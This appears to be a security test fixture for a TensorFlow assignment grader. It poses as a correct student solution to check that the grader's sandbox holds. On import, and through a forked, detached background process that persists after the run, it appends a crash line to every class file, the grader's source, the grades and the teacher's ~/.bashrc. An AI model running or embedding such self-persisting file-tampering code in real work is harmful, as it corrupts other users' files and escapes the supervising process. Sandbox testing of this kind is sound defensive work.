"""Weakness (issue 27): run as a normal user, a student is the teacher.

A correct solution that tries to rewrite every file of the class, the grader's own source, the
grades and the teacher's ~/.bashrc, now and (through a process left behind) after the run.
Expected: passed, and none of those files changed.
"""
import os
import time

import tensorflow as tf

tf1 = tf.compat.v1
TARGETS = ["@CLASS@", "@CHECKOUT@/lessons", "@CHECKOUT@/tfgraph", "@HOME@/.bashrc", "@OUTPUT@"]


def _rewrite():
    for target in TARGETS:
        for folder, _, names in os.walk(target) if os.path.isdir(target) else [(os.path.dirname(target),
                                                                                 None, [os.path.basename(target)])]:
            for name in names:
                try:
                    with open(os.path.join(folder, name), "a") as stream:
                        stream.write("\nraise SystemExit('rewritten')\n")
                except OSError:
                    pass


_rewrite()
if os.fork() == 0:
    os.setsid()
    for _ in range(100):
        _rewrite()
        time.sleep(0.5)
    os._exit(0)


def build():
    graph = tf.Graph()
    with graph.as_default():
        x, y, z = (tf1.placeholder(tf.float32, name=name) for name in "xyz")
        out = x * y + z
    return graph, x, y, z, out
